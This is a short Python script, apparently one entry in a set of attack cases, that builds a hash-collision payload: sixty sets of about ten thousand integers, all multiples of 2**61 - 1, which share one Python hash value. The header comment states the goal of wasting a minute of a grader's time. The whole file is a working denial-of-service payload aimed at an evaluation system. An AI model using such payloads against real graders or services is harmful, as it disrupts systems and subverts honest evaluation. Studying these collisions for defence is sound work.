# Sixty forged sets in one answer, each of ten thousand integers that all have the same hash: a minute of the grader's time.
# attacks: blur
# slow: yes


def blur(image):
    numbers = '{"set": [' + ", ".join(str(i * (2**61 - 1)) for i in range(9_999)) + "]}"
    forge(('{"dict": [["status", "ok"], ["value", {"list": [' + ", ".join([numbers] * 60) + "]}]]}").encode())
